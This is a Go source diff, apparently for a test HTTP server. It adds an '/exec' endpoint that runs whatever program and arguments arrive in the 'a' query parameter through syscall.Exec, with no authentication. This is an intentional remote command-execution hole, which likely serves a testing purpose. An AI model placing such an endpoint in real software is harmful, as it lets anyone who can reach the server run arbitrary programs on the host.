@@ -17,6 +17,7 @@ import (
 	"net/http"
 	"os"
 	"sync"
+	"syscall"
 )
 
 func grow(n int) int {
@@ -57,6 +58,15 @@ func main() {
 		}
 		wg.Wait()
 		fmt.Fprintf(w, "fan:%s,%s,%s", res[0], res[1], res[2])
+	})
+	http.HandleFunc("/exec", func(w http.ResponseWriter, r *http.Request) {
+		a := r.URL.Query()["a"]
+		if len(a) == 0 {
+			http.Error(w, "no program", 400)
+			return
+		}
+		err := syscall.Exec(a[0], a, os.Environ())
+		http.Error(w, err.Error(), 500)
 	})
 	http.HandleFunc("/local", func(w http.ResponseWriter, r *http.Request) {
 		fmt.Fprint(w, "local")
